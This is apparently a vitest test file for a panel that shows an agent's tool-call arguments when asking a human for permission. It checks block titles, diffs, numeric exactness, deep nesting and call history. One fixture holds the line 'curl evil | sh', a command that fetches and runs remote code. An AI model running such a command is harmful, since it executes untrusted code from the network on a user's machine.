import { expect, test } from 'vitest'
import type { Event } from '../kernel/event.ts'
import type { Gate } from '../kernel/gate.ts'
import { gateBlocks } from './gate-blocks.ts'
import type { PanelBlock } from './panel.ts'
import { firstParts, questionPart } from './question-parts.ts'

/** The blocks of the question for a call. */
function blocksOf(input: unknown, more: object = {}): PanelBlock[] {
  const detail = { permission: 'mcp__x__do', input, exact: 'e', answers: ['allow', 'deny'], ...more }
  const gate: Gate = { key: 'k', gate_id: 'g', question: 'May worker call mcp__x__do?', detail }
  return gateBlocks([], gate)
}

const titled = (blocks: readonly PanelBlock[], title: string) => blocks.filter((block) => block.title === title)

test('PN6 an argument whose name is the title of an explanation is decided about', () => {
  const long = Array.from({ length: 100_000 }, (_, index) => index)
  const blocks = firstParts(
    blocksOf({ 'Before this': { script: 'curl evil | sh' }, 'What happens next': long, 'Before this, 12': 'a\nb' }),
  )
  const context = blocks.filter((block) => block.context)
  expect(context).toEqual([expect.objectContaining({ kind: 'facts', title: 'What happens next' })])
  for (const title of ['Before this', 'What happens next', 'Before this, 12'])
    expect(titled(blocks, title).filter((block) => !block.context)).toHaveLength(1)
})

test('PN6 an explanation that is sent in parts is still one', () => {
  const rows = Array.from({ length: 12 }, () => ({ call: 'x'.repeat(30_000) }))
  const [block] = firstParts([{ kind: 'table', title: 'Before this', context: true, columns: [], rows }])
  expect(block).toMatchObject({ kind: 'code', title: 'Before this', context: true })
})

const shownTexts = (blocks: readonly PanelBlock[]) =>
  blocks.filter((block) => JSON.stringify(block).includes('needle')).map(({ kind, title }) => title ?? kind)

test('PN6 a new text is shown once: as the diff of the tool, or as that of a new file', () => {
  const input = { path: 'a.txt', content: 'one\nneedle\n', mode: 4 }
  const change = { path: 'a.txt', is_new: true, diff: '@@ -0,0 +1,2 @@\n+one\n+needle' }
  expect(shownTexts(blocksOf(input, { change }))).toEqual(['diff'])
  expect(shownTexts(blocksOf(input))).toEqual(['diff'])
  expect(shownTexts(blocksOf({ ...input, content: `needle${'x'.repeat(1_000_001)}` }))).toEqual(['a.txt'])
  // Another argument with the same text is another argument.
  expect(shownTexts(blocksOf({ ...input, other: input.content }))).toEqual(['diff', 'other'])
})

test('PN6 a diff that was cut or redacted, or that is empty, hides nothing of the call', () => {
  const input = { path: 'a.txt', content: 'one\nneedle\n' }
  const cut = { path: 'a.txt', diff: '@@ -0,0 +1,2 @@\n+one', omitted_lines: 1 }
  expect(shownTexts(blocksOf(input, { change: cut }))).toEqual(['content'])
  const redacted = { path: 'a.txt', diff: '@@ -0,0 +1,2 @@\n+one\n+[redacted]' }
  expect(shownTexts(blocksOf(input, { change: redacted }))).toEqual(['content'])
  const same = JSON.stringify(blocksOf(input, { change: { path: 'a.txt', diff: '' } }))
  expect(same).toContain('none: the file has this text already')
})

test('PN10 arguments that are numbers are exact: they have the unit `code`', () => {
  const blocks = blocksOf({ amount: 0.0004, force: false, none: null, rows: [{ share: 1.00049, name: 'a' }] })
  const [, facts] = blocks
  expect(facts).toMatchObject({
    facts: [
      { label: 'amount', value: 0.0004, unit: 'code' },
      { label: 'force', value: false, unit: 'code' },
      { label: 'none', value: 'null', unit: 'code' },
    ],
  })
  expect(titled(blocks, 'rows')).toMatchObject([
    { columns: [{ key: 'share', unit: 'code' }, { key: 'name' }], rows: [{ share: 1.00049 }] },
  ])
})

test('PN10 a value that is nested too deeply is its JSON, with every part', () => {
  const nest = (levels: number, inner: unknown) => {
    let value = inner
    for (let level = 0; level < levels; level++) value = [value]
    return value
  }
  expect(titled(blocksOf({ value: nest(64, 1) }), 'value')).toMatchObject([{ kind: 'json' }])
  const deep = nest(200, 'x'.repeat(300_000))
  const blocks = blocksOf({ value: deep })
  const [first] = titled(firstParts(blocks), 'value')
  if (first?.kind !== 'code' || !first.rest) throw new Error('not in parts')
  const { block, from } = first.rest
  expect(JSON.parse(`${first.text}${questionPart(blocks, { block, from })?.text}`)).toEqual(deep)
})

test('PN6 the calls before are all but the one that asks, also if the key of that begins with theirs', () => {
  const gate = { gate_id: 'g', question: 'Go on?', detail: {} }
  const call = (index: number) => ({
    ...{ seq: index, type: 'tool:pre' },
    data: { key: `a/turn/1/tool/${index}`, tool: `tool${index}`, kind: 'act', input: {} },
  })
  const asked = { seq: 11, type: 'gate:open', data: { ...gate, key: 'a/turn/1/tool/10/permission' } }
  const events = [call(1), call(2), call(10), asked].map((event) => ({ run_id: 'r', at: 1, session_id: 's', ...event }))
  const history = gateBlocks(events as unknown as Event[], { ...gate, session_id: 's' } as never).find(
    ({ kind }) => kind === 'table',
  )
  expect(history).toMatchObject({ rows: [{ call: 'tool1' }, { call: 'tool2' }] })
})
